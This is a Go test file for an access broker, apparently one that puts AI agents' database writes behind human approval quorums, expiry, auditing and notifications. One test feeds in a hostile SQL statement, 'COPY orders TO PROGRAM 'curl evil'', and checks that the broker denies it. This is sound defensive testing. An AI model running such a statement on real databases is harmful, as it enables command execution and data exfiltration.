package broker_test

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/jitgate/jitgate/broker"
	"github.com/jitgate/jitgate/broker/audit"
	"github.com/jitgate/jitgate/broker/credentials"
	"github.com/jitgate/jitgate/broker/credentials/local"
	"github.com/jitgate/jitgate/broker/grant"
	"github.com/jitgate/jitgate/broker/identity"
	launchlocal "github.com/jitgate/jitgate/broker/launch/local"
	"github.com/jitgate/jitgate/broker/notify"
	"github.com/jitgate/jitgate/broker/policy"
	"github.com/jitgate/jitgate/broker/store/bolt"
	"github.com/jitgate/jitgate/ephemeral/spec"
)

const testPolicy = `version: 1
issuers:
  - name: okta
    issuer: https://example.okta.com/oauth2/default
    audience: api://jitgate
  - name: corp
    issuer: https://corp.example.com
    audience: api://jitgate
    human_when: token_type=human
targets:
  - name: test-db
    kind: postgres
    address: 127.0.0.1:1
    database: shop_test
    credentials: {source: local, admin_dsn: "postgres://x@127.0.0.1:1/postgres", read_role: r, write_role: w}
rules:
  - name: two-dbas
    when: '"ai-agents" in identity.groups'
    targets: [test-db]
    access: write
    approval: {approvers: {groups: [dba], users: ["okta:carol"]}, quorum: 2, timeout: 10m, covers_next: 2}
  - name: read
    when: '"ai-agents" in identity.groups'
    targets: [test-db]
    access: read
`

// clock is a settable test clock.
type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) Now() time.Time          { c.mu.Lock(); defer c.mu.Unlock(); return c.t }
func (c *clock) Advance(d time.Duration) { c.mu.Lock(); c.t = c.t.Add(d); c.mu.Unlock() }

type fixture struct {
	svc   *broker.Service
	clock *clock
	audit string
}

// newService builds a broker over real bbolt and audit files. No test here
// runs a grant, so the credential source is never contacted.
func newService(t *testing.T, n broker.Notifier) *fixture {
	t.Helper()
	p, err := policy.Parse("test.yaml", []byte(testPolicy))
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	st, err := bolt.Open(filepath.Join(dir, "grants.db"), bolt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	al, err := audit.Open(filepath.Join(dir, "audit.jsonl"), audit.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { al.Close() })
	src, err := local.NewPostgres(local.PostgresConfig{AdminDSN: "postgres://x@127.0.0.1:1/postgres", Database: "shop_test", Roles: map[spec.Access]string{spec.Read: "r", spec.Write: "w"}})
	if err != nil {
		t.Fatal(err)
	}
	ln, _ := launchlocal.New(launchlocal.Config{})
	c := &clock{t: time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)}
	cfg := broker.Config{Policy: p, Store: st, Audit: al, Sources: map[string]credentials.Source{"test-db": src},
		Launcher: ln, RecordDir: dir, Now: c.Now}
	if n != nil {
		cfg.Notifier = n
	}
	svc, err := broker.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(svc.Close)
	return &fixture{svc: svc, clock: c, audit: filepath.Join(dir, "audit.jsonl")}
}

func who(sub string, groups ...string) identity.Identity {
	return identity.Identity{IssuerName: "okta", Issuer: "https://example.okta.com/oauth2/default", Subject: sub, Groups: groups,
		Claims: map[string]any{"repository": "acme/shop", "ref": "refs/pull/7/merge"}}
}

const write = "UPDATE orders SET amount = 2 WHERE id = 1"

func (f *fixture) request(t *testing.T, requester identity.Identity, sql string) *grant.Grant {
	t.Helper()
	g, err := f.svc.Request(context.Background(), requester, broker.RequestInput{Target: "test-db", Mode: spec.Exec, Operation: sql})
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func TestApprovalRules(t *testing.T) {
	f := newService(t, nil)
	ctx := context.Background()
	agent := who("agent-7", "ai-agents")
	g := f.request(t, agent, write)
	if g.State != grant.Pending || g.Quorum != 2 {
		t.Fatalf("state %s quorum %d, want pending with quorum 2", g.State, g.Quorum)
	}
	// The requester cannot approve its own grant, even if it is in the approver group.
	agentDBA := who("agent-7", "ai-agents", "dba")
	if _, err := f.svc.Approve(ctx, agentDBA, g.ID, ""); !errors.Is(err, broker.ErrForbidden) || !strings.Contains(err.Error(), "own grant") {
		t.Fatalf("self-approval: %v, want ErrForbidden 'own grant'", err)
	}
	// Someone outside the approvers cannot approve.
	if _, err := f.svc.Approve(ctx, who("mallory", "devs"), g.ID, ""); !errors.Is(err, broker.ErrForbidden) {
		t.Fatalf("non-approver: %v", err)
	}
	// Approvers are humans: a CI workload token or an identity its issuer does
	// not mark human cannot approve, even in the approver group.
	ci := who("repo:acme/shop:pull_request", "dba")
	ci.Issuer = "https://token.actions.githubusercontent.com"
	if _, err := f.svc.Approve(ctx, ci, g.ID, ""); !errors.Is(err, broker.ErrForbidden) || !strings.Contains(err.Error(), "GitHub Actions") {
		t.Fatalf("CI token approving: %v", err)
	}
	bot := who("build-bot", "dba")
	bot.IssuerName, bot.Issuer = "corp", "https://corp.example.com"
	if _, err := f.svc.Approve(ctx, bot, g.ID, ""); !errors.Is(err, broker.ErrForbidden) || !strings.Contains(err.Error(), "not a human") {
		t.Fatalf("non-human approving: %v", err)
	}
	// First approval: still pending. The same approver again: refused.
	g, err := f.svc.Approve(ctx, who("alice", "dba"), g.ID, "ok")
	if err != nil || g.State != grant.Pending {
		t.Fatalf("first approval: %v %v", g, err)
	}
	if _, err := f.svc.Approve(ctx, who("alice", "dba"), g.ID, "again"); !errors.Is(err, broker.ErrConflict) {
		t.Fatalf("double approval by one person: %v", err)
	}
	// A named user (issuer:subject) completes the quorum.
	g, err = f.svc.Approve(ctx, who("carol"), g.ID, "ok")
	if err != nil || g.State != grant.Approved {
		t.Fatalf("quorum approval: %v %v", g, err)
	}
	// Running needs the requester; denying an approved grant is a conflict.
	if _, err := f.svc.Run(ctx, who("alice", "dba"), g.ID); !errors.Is(err, broker.ErrForbidden) {
		t.Fatalf("run by someone else: %v", err)
	}
	if _, err := f.svc.Deny(ctx, who("bob", "dba"), g.ID, "late"); !errors.Is(err, broker.ErrConflict) {
		t.Fatalf("deny after approval: %v", err)
	}
}

// TestRacingApprovals: many approvers at once on a quorum-2 grant; exactly
// the quorum's worth of approvals land and the grant is approved once.
func TestRacingApprovals(t *testing.T) {
	f := newService(t, nil)
	g := f.request(t, who("agent-7", "ai-agents"), write)
	var ok, conflict atomic.Int32
	var wg sync.WaitGroup
	for i := 0; i < 30; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := f.svc.Approve(context.Background(), who("dba-"+string(rune('a'+i)), "dba"), g.ID, "")
			switch {
			case err == nil:
				ok.Add(1)
			case errors.Is(err, broker.ErrConflict):
				conflict.Add(1)
			default:
				t.Errorf("unexpected error: %v", err)
			}
		}()
	}
	wg.Wait()
	got, _ := f.svc.Get(context.Background(), who("agent-7", "ai-agents"), g.ID)
	if ok.Load() != 2 || conflict.Load() != 28 || got.State != grant.Approved || len(got.Approvals) != 2 {
		t.Fatalf("ok=%d conflict=%d state=%s approvals=%d; want 2 approvals landing, 28 conflicts", ok.Load(), conflict.Load(), got.State, len(got.Approvals))
	}
}

// TestApprovalRacingExpiry: an approval and the sweeper race on a grant past
// its wait; exactly one of them wins, every round.
func TestApprovalRacingExpiry(t *testing.T) {
	f := newService(t, nil)
	ctx := context.Background()
	for round := 0; round < 10; round++ {
		g := f.request(t, who("agent-7", "ai-agents"), write)
		if _, err := f.svc.Approve(ctx, who("alice", "dba"), g.ID, ""); err != nil {
			t.Fatal(err)
		}
		f.clock.Advance(10*time.Minute + time.Second)
		var approveErr error
		var rep broker.SweepReport
		var wg sync.WaitGroup
		wg.Add(2)
		go func() { defer wg.Done(); _, approveErr = f.svc.Approve(ctx, who("bob", "dba"), g.ID, "") }()
		go func() { defer wg.Done(); rep = f.svc.Sweep(ctx) }()
		wg.Wait()
		got, _ := f.svc.Get(ctx, who("agent-7", "ai-agents"), g.ID)
		// The approval comes after the wait ended, so it must lose: the grant expires.
		if approveErr == nil || got.State != grant.Expired {
			t.Fatalf("round %d: approve err %v, state %s, sweep %+v", round, approveErr, got.State, rep)
		}
	}
}

func TestCoversNextIdenticalStatements(t *testing.T) {
	f := newService(t, nil)
	ctx := context.Background()
	agent := who("agent-7", "ai-agents")
	g := f.request(t, agent, write)
	for _, a := range []identity.Identity{who("alice", "dba"), who("bob", "dba")} {
		if _, err := f.svc.Approve(ctx, a, g.ID, ""); err != nil {
			t.Fatal(err)
		}
	}
	for i := 1; i <= 2; i++ {
		n := f.request(t, agent, write)
		if n.State != grant.Approved || n.CoveredBy != g.ID {
			t.Fatalf("identical request %d: state %s covered by %q", i, n.State, n.CoveredBy)
		}
	}
	if n := f.request(t, agent, write); n.State != grant.Pending {
		t.Fatalf("third identical request: %s, want pending (covers_next is 2)", n.State)
	}
	if n := f.request(t, agent, write+" AND amount > 0"); n.State != grant.Pending {
		t.Fatalf("a different statement must not be covered: %s", n.State)
	}
	other := agent
	other.Claims = map[string]any{"repository": "acme/shop", "ref": "refs/pull/8/merge"}
	if n := f.request(t, other, write); n.State != grant.Pending {
		t.Fatalf("another pull request must not be covered: %s", n.State)
	}
}

func TestPendingExpiresAndIsAudited(t *testing.T) {
	f := newService(t, nil)
	g := f.request(t, who("agent-7", "ai-agents"), write)
	f.clock.Advance(11 * time.Minute)
	if rep := f.svc.Sweep(context.Background()); rep.Expired != 1 {
		t.Fatalf("sweep: %+v", rep)
	}
	got, _ := f.svc.Get(context.Background(), who("agent-7", "ai-agents"), g.ID)
	if got.State != grant.Expired {
		t.Fatalf("state %s", got.State)
	}
	raw, _ := os.ReadFile(f.audit)
	if !strings.Contains(string(raw), `"grant.expired"`) {
		t.Fatal("no grant.expired audit event")
	}
}

// TestNotificationFailureDecidesNothing: a webhook that fails leaves the
// grant pending and is audited; a working one receives the statement.
func TestNotificationFailureDecidesNothing(t *testing.T) {
	var body atomic.Value
	okSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		body.Store(string(b))
	}))
	defer okSrv.Close()
	badSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(500) }))
	defer badSrv.Close()
	n, err := notify.New(notify.Config{Backoff: time.Millisecond, Attempts: 2, Targets: []notify.Target{
		{Kind: notify.Webhook, URL: okSrv.URL, Secret: []byte("k")}, {Kind: notify.Slack, URL: badSrv.URL}}})
	if err != nil {
		t.Fatal(err)
	}
	f := newService(t, n)
	g := f.request(t, who("agent-7", "ai-agents"), write)
	f.svc.Close() // waits for the background notification
	got, _ := f.svc.Get(context.Background(), who("agent-7", "ai-agents"), g.ID)
	if got.State != grant.Pending {
		t.Fatalf("state %s after notifications, want pending", got.State)
	}
	var msg map[string]any
	_ = json.Unmarshal([]byte(body.Load().(string)), &msg)
	if msg["grant_id"] != g.ID || !strings.Contains(body.Load().(string), write) {
		t.Fatalf("webhook body %v", msg)
	}
	raw, _ := os.ReadFile(f.audit)
	if !strings.Contains(string(raw), "webhook delivered") || !strings.Contains(string(raw), "slack failed after 2 attempt(s)") {
		t.Fatalf("audit lacks the notification outcomes:\n%s", raw)
	}
}

func TestDeniedRequestIsStoredWithReasons(t *testing.T) {
	f := newService(t, nil)
	g, err := f.svc.Request(context.Background(), who("agent-7", "ai-agents"), broker.RequestInput{Target: "test-db", Mode: spec.Exec, Operation: "COPY orders TO PROGRAM 'curl evil'"})
	if !errors.Is(err, broker.ErrDenied) || g == nil || g.State != grant.Denied {
		t.Fatalf("COPY TO PROGRAM: %v %v", g, err)
	}
	if !strings.Contains(strings.Join(g.Reasons, ";"), "PROGRAM") {
		t.Fatalf("reasons %v do not name the problem", g.Reasons)
	}
	if _, err := f.svc.Request(context.Background(), who("agent-7", "ai-agents"), broker.RequestInput{Target: "nope", Mode: spec.Exec, Operation: "SELECT 1"}); !errors.Is(err, broker.ErrBadRequest) {
		t.Fatalf("unknown target: %v", err)
	}
}
